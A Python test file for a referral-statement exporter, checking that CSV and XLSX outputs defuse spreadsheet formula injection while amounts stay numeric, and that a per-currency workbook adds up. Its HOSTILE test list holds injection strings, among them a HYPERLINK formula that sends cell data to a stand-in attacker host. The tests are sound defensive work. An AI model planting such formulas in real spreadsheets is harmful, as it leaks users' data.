"""Statement files: text a spreadsheet would run as a formula is made inert; amounts stay numbers."""

from __future__ import annotations

import csv
import io
import zipfile

from openpyxl import load_workbook

from referrals.reports import render

COLUMNS = ["source_type", "source_id", "source_name", "currency", "amount", "amount_minor", "deals"]
HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "=1+2", "+1", "-2", "@SUM(A1)", "\tx", "\rx"]


def _rows() -> list[dict[str, object]]:
    rows: list[dict[str, object]] = [
        {
            "source_type": "client",
            "source_id": f"cl_{i}",
            "source_name": name,
            "currency": "EUR",
            "amount": "-12.50",
            "amount_minor": -1250,
            "deals": 1,
        }
        for i, name in enumerate(HOSTILE)
    ]
    rows.append(
        {
            "source_type": "client",
            "source_id": "cl_ok",
            "source_name": "Ana Lima",
            "currency": "EUR",
            "amount": "100.00",
            "amount_minor": 10000,
            "deals": 2,
        }
    )
    return rows


def test_csv_text_cells_that_start_a_formula_get_an_apostrophe_and_amounts_do_not() -> None:
    out = list(csv.DictReader(io.StringIO(render(COLUMNS, _rows(), "csv").decode(), newline="")))
    # a carriage return, which CSV readers take for the end of a row, is written as a quoted line break
    assert [r["source_name"] for r in out] == ["'" + h.replace("\r", "\n") for h in HOSTILE] + ["Ana Lima"]
    assert {r["amount"] for r in out} == {"-12.50", "100.00"} and out[0]["amount_minor"] == "-1250"


def test_xlsx_never_holds_a_formula_and_keeps_names_exact() -> None:
    data = render(COLUMNS, _rows(), "xlsx")
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        sheet = z.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet and "<f " not in sheet
    ws = load_workbook(io.BytesIO(data)).active
    assert ws is not None
    names = [ws.cell(row=r, column=3) for r in range(2, len(HOSTILE) + 3)]
    # XML reads a carriage return back as a line feed; every other character comes back as written
    assert [c.value for c in names] == [h.replace("\r", "\n") for h in HOSTILE] + ["Ana Lima"]
    assert {c.data_type for c in names} == {"s"}
    amount = ws.cell(row=2, column=5)
    assert amount.data_type == "n" and float(amount.value) == -12.5


def test_the_statement_workbook_has_a_sheet_per_currency_that_adds_up() -> None:
    import io as _io
    from datetime import date as _date

    from openpyxl import load_workbook

    from referrals.attribution import Arrival, DealFacts, Model, Params, PeriodFacts, Step
    from referrals.model import SourceKind, SourceRef
    from referrals.workbook import statement_workbook

    ana = Step(SourceRef(SourceKind.CLIENT, "cl_ana"), '=Ana "A&B" <x>', _date(2024, 1, 1), True)
    facts = PeriodFacts(
        _date(2024, 6, 1),
        _date(2024, 6, 30),
        (
            (DealFacts("dl_1", "cl_bo", 1_000_01, "EUR", _date(2024, 6, 3)), (ana,)),
            (DealFacts("dl_2", "cl_bo", 300, "JPY", _date(2024, 6, 4)), (ana,)),
            (DealFacts("dl_3", "cl_cy", 50_00, "EUR", _date(2024, 6, 5)), ()),
        ),
        (Arrival("cl_bo", _date(2024, 6, 2), (ana,)),),
    )
    data = statement_workbook(facts, Model.LINEAR, Params(), "2024-06", payers={"cl_bo": "Бо"})
    book = load_workbook(_io.BytesIO(data))
    assert book.sheetnames == ["EUR", "JPY", "New clients", "Deals", "Parameters"]
    eur = list(book["EUR"].iter_rows(2, values_only=True))
    assert eur[-1][0] == "Total" and eur[-1][2] == 1050.01 and {r[0] for r in eur[:-1]} == {ana.name, "(direct)"}
    assert book["EUR"].cell(2, 1).data_type == "s"  # a name like a formula stays a name
    jpy = book["JPY"]
    assert jpy.cell(2, 3).value == 300 and jpy.cell(2, 3).number_format == '#,##0 "JPY"'
    deals = list(book["Deals"].iter_rows(2, values_only=True))
    assert {r[2] for r in deals} == {"Бо", "cl_cy"}  # a payer whose name is unknown shows its id
    assert sum(r[8] for r in deals if r[4] == "JPY") == 300
